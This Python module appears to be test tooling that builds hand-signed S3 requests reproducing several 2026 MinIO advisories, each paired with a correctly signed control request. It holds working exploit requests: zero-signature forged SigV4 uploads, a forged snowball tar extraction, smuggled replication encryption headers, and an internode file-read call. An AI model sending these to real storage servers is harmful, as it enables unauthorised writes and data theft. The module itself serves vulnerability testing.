"""Raw S3 requests written from MinIO's 2026 advisories, for the exploit tests and the conformance suite.

Each attack has a correctly signed twin (the positive control): on a store that refuses the attack,
the twin must still succeed, or the refusal may only be a malformed request. Requests are built by
hand (SigV4 from the MinIO SDK's public ``sign_v4_s3``/``presign_v4``), because no SDK sends the
broken shapes these advisories describe.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import io
import json
import tarfile
import zlib
from dataclasses import dataclass
from datetime import UTC, datetime
from urllib.parse import quote, urlencode, urlsplit

import urllib3
from minio.credentials import Credentials
from minio.signer import presign_v4, sign_v4_s3

UNSIGNED_TRAILER = "STREAMING-UNSIGNED-PAYLOAD-TRAILER"
ZERO_SIGNATURE = "0" * 64

# How the request proves (or only claims) who sends it.
HEADER_SIGNED = "header-signed"  # a correct Authorization header: the legitimate shape
PRESIGNED = "presigned"  # a correct presigned query: legitimate too
QUERY_FORGED = "query-forged"  # X-Amz-Credential in the query, a signature of zeros, no header
HEADER_FORGED = "header-forged"  # an Authorization header naming the key, a signature of zeros


@dataclass(frozen=True)
class Target:
    """Where the probes go: an S3 endpoint URL, its region and one access key (secret optional)."""

    url: str
    region: str
    access_key: str
    secret_key: str = ""


@dataclass(frozen=True)
class Answer:
    """What the server said."""

    status: int
    body: bytes

    @property
    def code(self) -> str:
        """The S3 error code in the body, or '' for none."""
        text = self.body.decode(errors="replace")
        start = text.find("<Code>")
        return text[start + 6 : text.find("</Code>")] if start >= 0 else ""

    def __str__(self) -> str:
        return f"HTTP {self.status} {self.code or self.body[:120]!r}"


def _http() -> urllib3.PoolManager:
    # One attempt each: a probe that is retried could hide what the server said first.
    return urllib3.PoolManager(retries=False, timeout=urllib3.Timeout(connect=5, read=30))


def aws_chunked(payload: bytes) -> tuple[bytes, dict[str, str]]:
    """``payload`` as one aws-chunked chunk with a CRC32 trailer, and the headers that say so."""
    crc = base64.b64encode(zlib.crc32(payload).to_bytes(4, "big")).decode()
    body = b"%x\r\n%s\r\n0\r\nx-amz-checksum-crc32:%s\r\n\r\n" % (len(payload), payload, crc.encode())
    headers = {
        "x-amz-content-sha256": UNSIGNED_TRAILER,
        "Content-Encoding": "aws-chunked",
        "x-amz-decoded-content-length": str(len(payload)),
        "x-amz-trailer": "x-amz-checksum-crc32",
        "Content-Length": str(len(body)),
    }
    return body, headers


def one_file_tar(name: str, payload: bytes) -> bytes:
    """A tar holding one file, as a snowball upload carries."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as tar:
        info = tarfile.TarInfo(name)
        info.size = len(payload)
        tar.addfile(info, io.BytesIO(payload))
    return out.getvalue()


def _object_url(target: Target, bucket: str, key: str) -> str:
    return f"{target.url.rstrip('/')}/{bucket}/{quote(key)}"


def _credential(target: Target, now: datetime) -> str:
    return f"{target.access_key}/{now:%Y%m%d}/{target.region}/s3/aws4_request"


def send(
    target: Target,
    method: str,
    bucket: str,
    key: str,
    *,
    body: bytes,
    headers: dict[str, str],
    auth: str,
    query: dict[str, str] | None = None,
) -> Answer:
    """``method`` on ``bucket/key`` with ``body`` and ``headers``, its authorisation shaped as ``auth``."""
    now = datetime.now(UTC)
    url = urlsplit(
        _object_url(target, bucket, key) + (f"?{urlencode(sorted(query.items()))}" if query else "")
    )
    headers = {"Host": url.netloc, **headers}
    # The forged shapes never use the secret (the attacker has none); a placeholder satisfies the SDK.
    creds = Credentials(target.access_key, target.secret_key or "not-known-to-the-attacker")
    if auth in (HEADER_SIGNED, HEADER_FORGED):
        headers["x-amz-date"] = f"{now:%Y%m%dT%H%M%SZ}"
        content_sha = headers.get("x-amz-content-sha256") or hashlib.sha256(body).hexdigest()
        headers["x-amz-content-sha256"] = content_sha
        signed = sign_v4_s3(
            method=method, url=url, region=target.region, headers=dict(headers),
            credentials=creds, content_sha256=content_sha, date=now,
        )  # fmt: skip
        headers["Authorization"] = signed["Authorization"]
        if auth == HEADER_FORGED:
            head, _, _ = headers["Authorization"].rpartition("Signature=")
            headers["Authorization"] = head + "Signature=" + ZERO_SIGNATURE
    elif auth == PRESIGNED:
        url = presign_v4(
            method=method, url=url, region=target.region, credentials=creds, date=now, expires=300
        )
    elif auth == QUERY_FORGED:
        forged = {
            "X-Amz-Algorithm": "AWS4-HMAC-SHA256",
            "X-Amz-Credential": _credential(target, now),
            "X-Amz-Date": f"{now:%Y%m%dT%H%M%SZ}",
            "X-Amz-Expires": "300",
            "X-Amz-SignedHeaders": "host",
            "X-Amz-Signature": ZERO_SIGNATURE,
        }
        url = url._replace(query="&".join(filter(None, [url.query, urlencode(forged)])))
    else:
        raise ValueError(f"unknown auth shape {auth!r}")
    headers.pop("Host")
    response = _http().request(method, url.geturl(), body=body, headers=headers)
    return Answer(response.status, response.data)


def unsigned_trailer_put(
    target: Target, bucket: str, key: str, payload: bytes, auth: str, *, part: tuple[str, int] | None = None
) -> Answer:
    """PutObject (or PutObjectPart: ``part=(upload_id, number)``) with an unsigned-trailer aws-chunked
    body: CVE-2026-41145 when ``auth`` is forged."""
    body, headers = aws_chunked(payload)
    query = {"uploadId": part[0], "partNumber": str(part[1])} if part else None
    return send(target, "PUT", bucket, key, body=body, headers=headers, auth=auth, query=query)


def snowball_put(target: Target, bucket: str, member: str, payload: bytes, auth: str) -> Answer:
    """A snowball auto-extract PUT of a one-file tar, declared unsigned-trailer (CVE-2026-40344 when forged).

    The forged shapes send the tar as it is, as the advisory's attacker does: the unpatched handler
    never decodes aws-chunked for this auth type, so it extracts a plain tar. The signed twin sends
    the aws-chunked body the declared type calls for.
    """
    tar = one_file_tar(member, payload)
    if auth in (QUERY_FORGED, HEADER_FORGED):
        headers = {"x-amz-content-sha256": UNSIGNED_TRAILER, "Content-Length": str(len(tar))}
        body = tar
    else:
        body, headers = aws_chunked(tar)
    headers["X-Amz-Meta-Snowball-Auto-Extract"] = "true"
    return send(
        target,
        "PUT",
        bucket,
        f"snowball-{member.replace('/', '-')}.tar",
        body=body,
        headers=headers,
        auth=auth,
    )


# CVE-2026-34204: what a writer sends to pose as replication of an SSE-C object.
REPLICATION_HEADERS = {
    "X-Minio-Replication-Server-Side-Encryption-Seal-Algorithm": "DAREv2-HMAC-SHA256",
    "X-Minio-Replication-Server-Side-Encryption-Sealed-Key": base64.b64encode(bytes(64)).decode(),
    "X-Minio-Replication-Server-Side-Encryption-Iv": base64.b64encode(bytes(32)).decode(),
    "X-Minio-Replication-Actual-Object-Size": "5",
}


def smuggled_replication_put(
    target: Target, bucket: str, key: str, payload: bytes, *, claim_replication: bool
) -> Answer:
    """A correctly signed PutObject carrying ``REPLICATION_HEADERS`` (and, if asked, the replication flag)."""
    headers = dict(REPLICATION_HEADERS)
    if claim_replication:
        headers["X-Minio-Source-Replication-Request"] = "true"
    return send(target, "PUT", bucket, key, body=payload, headers=headers, auth=HEADER_SIGNED)


# CVE-2026-42600: the internode storage-REST ReadMultiple route (distributed MinIO only).
STORAGE_REST_READ_MULTIPLE = "/minio/storage/{drive}/v63/rmpl"


def _msgpack_str(text: str) -> bytes:
    data = text.encode()
    assert len(data) < 32, "fixstr only"
    return bytes([0xA0 | len(data)]) + data


def internode_token(root_user: str, root_password: str, now: datetime) -> str:
    """The HS512 JWT nodes sign for each other with the root credentials (the route's one guard)."""

    def b64(raw: bytes) -> str:
        return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()

    header = b64(json.dumps({"alg": "HS512", "typ": "JWT"}).encode())
    claims = b64(
        json.dumps({"exp": int(now.timestamp()) + 300, "sub": root_user, "accessKey": root_user}).encode()
    )
    signature = hmac.new(root_password.encode(), f"{header}.{claims}".encode(), hashlib.sha512).digest()
    return f"{header}.{claims}.{b64(signature)}"


def read_multiple(url: str, drive: str, root_user: str, root_password: str, files: list[str]) -> Answer:
    """POST a ReadMultiple request for ``files`` (relative to ``drive``, no bucket) to a node."""
    # The request body is msgpack: {"bk": "", "fl": [files...]}.
    body = bytes([0x82]) + _msgpack_str("bk") + _msgpack_str("") + _msgpack_str("fl")
    body += bytes([0x90 | len(files)]) + b"".join(_msgpack_str(f) for f in files)
    now = datetime.now(UTC)
    headers = {
        "Authorization": f"Bearer {internode_token(root_user, root_password, now)}",
        "X-Minio-Time": str(int(now.timestamp() * 1e9)),
        "Content-Type": "application/octet-stream",
    }
    path = STORAGE_REST_READ_MULTIPLE.format(drive=drive.strip("/"))
    response = _http().request("POST", url.rstrip("/") + path, body=body, headers=headers)
    return Answer(response.status, response.data)
